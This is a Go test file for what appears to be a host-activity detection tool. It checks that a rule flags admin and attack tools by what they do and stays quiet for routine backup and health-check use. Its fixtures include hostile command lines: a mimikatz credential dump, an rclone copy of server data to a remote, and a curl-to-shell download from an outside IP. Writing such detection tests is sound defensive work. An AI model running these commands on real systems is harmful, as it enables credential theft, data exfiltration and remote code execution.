package machine

import (
	"testing"
	"time"

	"github.com/konseki/konseki/internal/detect/finding"
)

func TestToolsAreToldByWhatTheyDo(t *testing.T) {
	at := jst(t, "2026-11-05 02:00:00")
	for _, c := range []struct{ path, cmd, level string }{
		{`C:\Users\Public\mimikatz.exe`, "mimikatz.exe sekurlsa::logonpasswords", finding.LevelHigh},
		{"/tmp/rclone", "rclone copy /srv/data remote:x", finding.LevelMedium},
		{"/usr/bin/bash", "bash -c curl -s http://203.0.113.5/a | sh", finding.LevelMedium},
		{`C:\Tools\PsExec64.exe`, `PsExec64.exe \\srv-01 cmd`, finding.LevelLow},
	} {
		s, _ := servers(t, 30)
		s.ran(at, "app-01", "chiba", c.path, c.cmd)
		s.ran(at.Add(time.Hour), "app-01", "chiba", c.path, c.cmd)
		raises(t, s.run(watching(t, nil)), "baseline-admin-tool", c.level)
	}
}

func TestToolsInUseAreCalm(t *testing.T) {
	at := jst(t, "2026-08-01 02:00:00")
	s := &story{}
	for d := range 60 {
		s.ran(at.AddDate(0, 0, d), "backup-01", "backup", "/usr/bin/restic", "restic backup /srv")
	}
	s.ran(at.AddDate(0, 0, 60), "app-01", "backup", "/usr/bin/restic", "restic backup /srv") // on another host
	s.ran(at.AddDate(0, 0, 60), "app-01", "sato", "/usr/bin/curl", "curl -sf http://localhost/healthz")
	s.ran(at.AddDate(0, 0, 60), "app-01", "sato", "/usr/bin/vim", "vim nmap.txt")
	calm(t, s.run(watching(t, nil)), "baseline-admin-tool")
}
